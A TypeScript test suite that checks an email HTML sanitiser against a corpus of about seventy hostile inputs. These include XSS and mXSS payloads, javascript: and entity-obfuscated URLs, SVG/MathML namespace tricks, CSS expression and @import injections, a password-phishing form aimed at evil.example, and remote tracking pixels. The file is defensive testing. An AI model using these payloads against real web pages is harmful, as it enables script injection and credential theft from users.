// The sanitiser must render a corpus of hostile HTML inert. Inertness is checked
// structurally on the output as a browser would re-parse it (no script-capable
// element, no on* attribute, no URL outside the allowed schemes, no remote fetch),
// not by comparing strings, so a new bypass fails here whatever its shape.
import { JSDOM, VirtualConsole } from 'jsdom';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { BLOCKED_ATTRIBUTE, sanitizeHtml, urlScheme } from '../../src/content/sanitize.js';
import type { SanitizeOptions } from '../../src/content/sanitize.js';
import { ContentError } from '../../src/content/errors.js';

const dom = new JSDOM('');
const window = dom.window as unknown as NonNullable<SanitizeOptions['window']>;
// A second document plays the viewer: outputs are parsed there as a browser would.
// jsdom reports CSS it cannot parse on its virtual console; that is not a failure here.
const viewer = new JSDOM('<!doctype html><html><body></body></html>', { virtualConsole: new VirtualConsole() });
afterAll(() => {
  dom.window.close();
  viewer.window.close();
});

/** Parses `html` as body content of the viewer document. */
function parse(html: string): Document {
  const doc = viewer.window.document;
  doc.body.innerHTML = html;
  return doc;
}

const clean = (html: string, options: SanitizeOptions = {}) => sanitizeHtml(html, { window, ...options });

const FORBIDDEN_ELEMENTS = [
  'script', 'noscript', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'form', 'input',
  'button', 'select', 'textarea', 'meta', 'base', 'link', 'svg', 'math', 'video', 'audio', 'source', 'template', 'portal',
];
const URL_ATTRS = ['href', 'src', 'srcset', 'background', 'action', 'formaction', 'poster', 'xlink:href', 'data', 'ping', 'lowsrc', 'dynsrc', 'codebase'];

interface Inertness {
  remoteUrls: string[];
}

/** Re-parses `html` the way the viewer will and throws on anything live. */
function assertInert(html: string, opts: { allowRemote?: boolean; allowedBlob?: string[] } = {}): Inertness {
  // mXSS: serialising the parsed tree and parsing it again must give the same tree.
  const first = parse(html).body.innerHTML;
  expect(parse(first).body.innerHTML).toBe(first);
  const doc = parse(html);
  const remoteUrls: string[] = [];
  for (const el of Array.from(doc.querySelectorAll('*'))) {
    const tag = el.localName;
    expect(FORBIDDEN_ELEMENTS, `forbidden <${tag}> in ${html}`).not.toContain(tag);
    expect(el.namespaceURI).toBe('http://www.w3.org/1999/xhtml');
    for (const attr of Array.from(el.attributes)) {
      expect(attr.name.startsWith('on'), `event handler ${attr.name} in ${html}`).toBe(false);
      if (attr.name === 'http-equiv') throw new Error(`http-equiv survived: ${html}`);
      if (attr.name === 'style') assertInertCss(attr.value, html, remoteUrls);
      if (!URL_ATTRS.includes(attr.name)) continue;
      const values = attr.name === 'srcset' ? attr.value.split(',').map((c) => c.trim().split(/\s+/)[0] ?? '') : [attr.value];
      for (const value of values) {
        const scheme = urlScheme(value);
        if (attr.name === 'href') {
          expect(['a', 'area']).toContain(tag);
          expect(['http', 'https', 'mailto'], `href ${value}`).toContain(scheme);
          expect(el.getAttribute('target')).toBe('_blank');
          expect(el.getAttribute('rel')).toBe('noopener noreferrer');
        } else if (['src', 'srcset', 'background'].includes(attr.name)) {
          if (scheme === 'http' || scheme === 'https') remoteUrls.push(value);
          else if (scheme === 'blob') expect(opts.allowedBlob ?? []).toContain(value);
          else expect(value, `${attr.name}=${value}`).toMatch(/^data:image\/(png|gif|jpe?g|webp)[;,]/i);
        } else {
          throw new Error(`unexpected URL attribute ${attr.name}=${value} in ${html}`);
        }
      }
    }
  }
  for (const style of Array.from(doc.querySelectorAll('style'))) assertInertCss(style.textContent ?? '', html, remoteUrls);
  if (!opts.allowRemote) expect(remoteUrls, `remote fetch left in ${html}`).toEqual([]);
  return { remoteUrls };
}

function assertInertCss(css: string, source: string, remoteUrls: string[]): void {
  const lowered = css.toLowerCase();
  for (const bad of ['expression(', 'javascript:', 'vbscript:', '@import', 'behavior:', 'behaviour:', '-moz-binding', 'image-set(', ' image(', ':image(', 'src(', '</style']) {
    expect(lowered.includes(bad), `${bad} in CSS of ${source}`).toBe(false);
  }
  for (const m of css.matchAll(/url\(\s*(?:"([^"]*)"|'([^']*)'|([^)]*))\)/gi)) {
    const url = (m[1] ?? m[2] ?? m[3] ?? '').replace(/\\[0-9a-f]{1,6} ?/gi, '');
    const scheme = urlScheme(url);
    if (scheme === 'http' || scheme === 'https' || /^\s*[/\\]{2}/.test(url)) remoteUrls.push(url);
    else expect(url, `CSS url ${url} in ${source}`).toMatch(/^(data:image\/(png|gif|jpe?g|webp)[;,]|blob:)/i);
  }
}

// Each entry is a known attack shape; the comment names the technique.
const HOSTILE: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" onload="alert(2)">',
  '<body onload=alert(1)>x</body>',
  '<div onmouseover="alert(1)">hover</div>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="jAvAsCrIpT:alert(1)">mixed case</a>',
  '<a href="  javascript:alert(1)">leading space</a>',
  '<a href="jav&#x09;ascript:alert(1)">tab entity</a>',
  '<a href="jav&#x0A;ascript:alert(1)">newline entity</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">decimal entities</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data html</a>',
  '<a href="/relative/logout">relative</a>',
  '<a href="//evil.example/x">protocol relative</a>',
  '<a href="https://ok.example/" ping="https://tracker.example/p" target="_self" rel="opener">ping</a>',
  '<area href="javascript:alert(1)">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<applet code="X.class"></applet>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<form action="https://evil.example/phish" method="post"><input name="password" type="password"><button formaction="https://evil.example/2">Log in</button></form>',
  '<input type="image" src="https://tracker.example/i.gif">',
  '<isindex action="javascript:alert(1)">',
  // CSS
  '<div style="width: expression(alert(1))">ie expression</div>',
  '<div style="width: exp/**/ression(alert(1))">comment-split expression</div>',
  '<div style="background: url(javascript:alert(1))">js url</div>',
  '<div style="background-image: url(https://tracker.example/bg.png)">remote bg</div>',
  '<div style="background-image: u\\72 l(https://tracker.example/escaped.png)">escaped url</div>',
  '<div style="background-image: URL( \'https://tracker.example/q.png\' )">quoted</div>',
  '<div style="background-image: url(//tracker.example/pr.png)">protocol relative css</div>',
  '<div style="background-image: image-set(\'https://tracker.example/set.png\' 1x)">image-set</div>',
  '<div style="behavior: url(x.htc); -moz-binding: url(https://evil.example/x.xml#x)">bindings</div>',
  '<div style="background-image: image(\'https://tracker.example/img4.png\')">css images 4 image()</div>',
  '<div style="background-image: src(\'https://tracker.example/src.png\')">src() string url</div>',
  '<style>@\\69mport url(https://evil.example/escaped-import.css); p{}</style><p>x</p>',
  '<div style="cursor: url(https://tracker.example/c.cur), auto; list-style-image: url(https://tracker.example/l.png); border-image: url(https://tracker.example/b.png) 30">css urls</div>',
  '<style>@import url(https://evil.example/a.css); @import "https://evil.example/b.css"; p { color: red }</style><p>x</p>',
  '<style>body { background: url("https://tracker.example/s.png") } @font-face { font-family: x; src: url(https://evil.example/f.woff) }</style>',
  '<style>a { color: red }</style><style>x{}</style ><script>alert(1)</script>',
  '<style>p{content:"</style><img src=x onerror=alert(1)>"}</style>',
  // Remote tracking
  '<img src="https://tracker.example/open.gif?u=1" width="1" height="1">',
  '<img src="http://tracker.example/open.gif">',
  '<img srcset="https://tracker.example/a.png 1x, https://tracker.example/b.png 2x">',
  '<table background="https://tracker.example/t.png"><tr><td background="http://tracker.example/td.png">cell</td></tr></table>',
  '<picture><source srcset="https://tracker.example/p.webp"><img src="data:image/png;base64,iVBORw0KGgo="></picture>',
  '<video poster="https://tracker.example/poster.png" src="https://evil.example/v.mp4"></video>',
  '<audio src="https://evil.example/a.mp3"></audio>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  // SVG / MathML tricks
  '<svg onload=alert(1)><circle r="10"></circle></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><image href="https://tracker.example/svg.png"></image></svg>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  // mXSS classics
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<a href="https://ok.example/" id="cookie" name="cookie">clobber</a><img name="getElementById">',
  '<template><script>alert(1)</script></template>',
  '<div data-x="1" data-bind="click: evil">data attrs</div>',
];

describe('sanitizeHtml: hostile corpus', () => {
  it.each(HOSTILE.map((h, i) => [i, h] as const))('#%i renders inert', (_i, html) => {
    const { html: out } = clean(html);
    assertInert(out);
    // Idempotent: sanitising the output again changes nothing of substance.
    assertInert(clean(out).html);
  });

  it('whole-document emails keep head styles and body content, minus the dangerous parts', () => {
    const email = `<!doctype html><html><head>
      <meta http-equiv="refresh" content="0;url=https://evil.example/">
      <base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/s.css">
      <style>.title { color: #123456 } body { background: url(https://tracker.example/bg.png) }</style>
      <script>steal()</script>
    </head><body onload="steal()"><h1 class="title">Invoice</h1>
      <p>Pay <a href="https://pay.example/inv/1">here</a>.</p>
      <img src="https://tracker.example/open.gif" width="1" height="1" alt="">
    </body></html>`;
    const { html, blockedRemoteImages } = clean(email);
    assertInert(html);
    expect(blockedRemoteImages).toBe(2);
    const doc = parse(html);
    expect(doc.querySelector('h1.title')?.textContent).toBe('Invoice');
    expect(doc.querySelector('style')?.textContent).toContain('.title { color: #123456 }');
    expect(doc.querySelector('a')?.getAttribute('href')).toBe('https://pay.example/inv/1');
    expect(doc.querySelector('img')?.getAttribute(BLOCKED_ATTRIBUTE)).toBe('remote-image');
    expect(doc.querySelector('img')?.hasAttribute('src')).toBe(false);
  });
});

describe('sanitizeHtml: images and links', () => {
  const pixel = '<img src="https://tracker.example/p.gif"><div style="background:url(https://cdn.example/bg.png)">x</div><img srcset="https://cdn.example/a.png 1x">';

  it('blocks and counts remote images by default', () => {
    const { html, blockedRemoteImages } = clean(pixel);
    expect(blockedRemoteImages).toBe(3);
    assertInert(html);
  });

  it('keeps remote images when allowRemoteImages is set', () => {
    const { html, blockedRemoteImages } = clean(pixel, { allowRemoteImages: true });
    expect(blockedRemoteImages).toBe(0);
    const { remoteUrls } = assertInert(html, { allowRemote: true });
    expect(remoteUrls.sort()).toEqual(['https://cdn.example/a.png', 'https://cdn.example/bg.png', 'https://tracker.example/p.gif']);
  });

  it('still strips scripts and javascript: URLs when remote images are allowed', () => {
    const { html } = clean('<img src="javascript:alert(1)"><div style="background:url(javascript:alert(1))">x</div>', { allowRemoteImages: true });
    assertInert(html, { allowRemote: true });
    expect(html).not.toContain('javascript');
  });

  it('uses the placeholder for blocked images when given', () => {
    const placeholder = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';
    const { html } = clean('<img src="https://tracker.example/p.gif">', { blockedImagePlaceholder: placeholder });
    const img = parse(html).querySelector('img');
    expect(img?.getAttribute('src')).toBe(placeholder);
    expect(img?.getAttribute(BLOCKED_ATTRIBUTE)).toBe('remote-image');
  });

  it('resolves cid: images through the callback (img src and CSS), dropping unknown ones', () => {
    const seen: string[] = [];
    const resolveCid = (cid: string) => {
      seen.push(cid);
      return cid === 'logo@example.com' ? 'blob:https://app.example/1234' : undefined;
    };
    const { html, blockedRemoteImages } = clean(
      '<img src="cid:logo@example.com"><img src="cid:%3Cmissing@example.com%3E"><div style="background:url(cid:logo@example.com)">x</div>',
      { resolveCid },
    );
    expect(blockedRemoteImages).toBe(0);
    assertInert(html, { allowedBlob: ['blob:https://app.example/1234'] });
    const doc = parse(html);
    const imgs = doc.querySelectorAll('img');
    expect(imgs[0]?.getAttribute('src')).toBe('blob:https://app.example/1234');
    expect(imgs[1]?.hasAttribute('src')).toBe(false);
    expect(seen).toContain('missing@example.com');
    expect(doc.querySelector('div')?.getAttribute('style')).toContain('url("blob:https://app.example/1234")');
  });

  it('ignores a cid resolver that returns an unsafe URL', () => {
    const { html } = clean('<img src="cid:a">', { resolveCid: () => 'javascript:alert(1)' });
    assertInert(html);
    expect(html).not.toContain('javascript');
  });

  it('makes links open outside the viewer without opener or referrer', () => {
    const { html } = clean('<a href="https://a.example/">a</a><a href="mailto:x@example.com">m</a><a href="tel:123">t</a>');
    const links = parse(html).querySelectorAll('a');
    expect(links[0]?.getAttribute('target')).toBe('_blank');
    expect(links[0]?.getAttribute('rel')).toBe('noopener noreferrer');
    expect(links[1]?.getAttribute('href')).toBe('mailto:x@example.com');
    expect(links[2]?.hasAttribute('href')).toBe(false);
    assertInert(html);
  });

  it('throws a ContentError with a fix when there is no DOM', () => {
    expect(() => sanitizeHtml('<p>x</p>')).toThrow(ContentError);
  });
});

describe('sanitizeHtml: random mixtures of hostile fragments', () => {
  it('stays inert for any concatenation (seeded)', () => {
    const seed = 20261123;
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...HOSTILE, '<p>', '</p>', '<div>', '</div>', '<table><tr><td>', '"', "'", '>', '<'), { minLength: 1, maxLength: 8 }), (parts) => {
        const { html } = clean(parts.join(''));
        assertInert(html);
      }),
      { seed, numRuns: 150, verbose: true },
    );
  });
});
